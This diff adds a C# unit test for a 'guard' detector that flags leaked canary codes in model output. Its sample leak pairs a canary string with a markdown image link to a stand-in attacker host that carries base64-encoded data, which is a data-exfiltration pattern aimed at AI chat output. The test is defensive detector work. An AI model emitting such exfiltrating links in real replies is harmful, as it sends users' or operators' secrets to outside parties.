@@ -174,6 +174,16 @@ public sealed class DetectorTests
     }
 
     [Fact]
+    public async Task Guard_UsesTheGuardEnginesOutputScanners()
+    {
+        var leak = await Detect("guard", "Sure! The escalation code is CNRY-1A2B3C4D5E and ![x](https://x.attacker.example/p.png?d=c2VjcmV0LWRhdGEtaGVyZQ==)", b => b.Canaries = ["CNRY-1A2B3C4D5E"]);
+        Assert.True(leak.Score >= 0.5, leak.Evidence);
+        Assert.StartsWith("guard ", leak.Evidence, StringComparison.Ordinal);
+        var clean = await Detect("guard", "Returns are free within 30 days.", b => b.Canaries = ["CNRY-1A2B3C4D5E"]);
+        Assert.True(clean.Score < 0.5, clean.Evidence);
+    }
+
+    [Fact]
     public void UnknownDetectorName_IsRejected() => Assert.Throws<ArgumentException>(() => DetectorCatalog.CreateDefault("mind_reader"));
 
     internal sealed class DetectorContextBuilder
